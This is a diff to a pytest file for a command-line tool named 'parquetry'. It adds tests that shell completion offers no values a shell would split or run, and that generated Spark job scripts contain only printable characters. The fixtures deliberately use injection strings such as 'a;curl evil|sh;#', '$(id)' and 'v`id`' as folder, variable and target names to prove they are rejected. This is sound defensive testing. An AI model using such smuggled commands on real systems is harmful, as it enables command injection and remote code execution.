@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import ast
+import json
 import os
 import re
 import shlex
@@ -10,6 +11,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
+from click.shell_completion import ShellComplete
 from click.testing import CliRunner
 
 import parquetry
@@ -142,6 +144,38 @@ def test_python_is_told_calls_with_the_word_as_a_literal():
     for time, call in (("2026", "'2026'"), ("20 26;id", "'20 26;id'"), ("it's", '"it\'s"')):
         named = shell.named("parquetry", "service", "rollback", "TABLE", time)
         assert in_python(f"undo it with {named}") == f"undo it with Table.rollback({call})"
+
+
+def test_nothing_is_completed_that_a_shell_takes_for_more_than_a_word(tmp_path, monkeypatch):
+    """A shell puts what is offered into the line as it is."""
+    monkeypatch.chdir(tmp_path)
+    for name in ("a;curl evil|sh;#", "plain", "b c", "$(id)"):
+        below = tmp_path / "tables" / name
+        below.mkdir(parents=True)
+        (below / "x.yml").write_text(json.dumps({"name": f"x{name}", "tags": [f"t{name}\nplain,y"]}))
+    (tmp_path / "parquetry.yml").write_text(
+        json.dumps({"name": "p", "vars": {"v`id`": 1, "w": 2}, "targets": {"t;id": {}, "dev": {}}})
+    )
+    click_shell = ShellComplete(command_line, {}, "parquetry", "_PARQUETRY_COMPLETE")
+    offered = [
+        item.value
+        for words in (["plan", "--select"], ["plan", "--target"], ["plan", "--var"], ["inspect"])
+        for item in click_shell.get_completions(words, "")
+    ]
+    assert {"path:tables/plain", "xplain", "dev", "w="} <= set(offered)
+    assert [word for word in offered if shlex.split(word) != [word] or set(word) & set(";|$`()\n ")] == []
+
+
+def test_a_job_script_names_its_command_and_holds_no_unseen_characters(tmp_path):
+    folder = ProjectFolder.create(tmp_path)
+    (source,) = ORDERS["sources"]
+    folder.orders(description="a\tb", sources=[source | {"options": {"sep": "\x01", "x": 'y"""\\'}}])
+    assert CliRunner().invoke(command_line, ["compile", "-p", str(tmp_path)]).exit_code == 0
+    for script in tmp_path.glob("target/jobs/*/*.py"):
+        text = script.read_text()
+        assert all(line.isprintable() for line in text.splitlines())
+        (named,) = re.findall("`(spark-submit [^`]*)`", text)
+        assert shlex.split(named)[-1] == script.name
 
 
 _PROGRAM = r"(?:git (?:-\S+ )*[a-z-]+|rm|cp|cd|export|spark-submit|parquetry [a-z]+|pip install)"
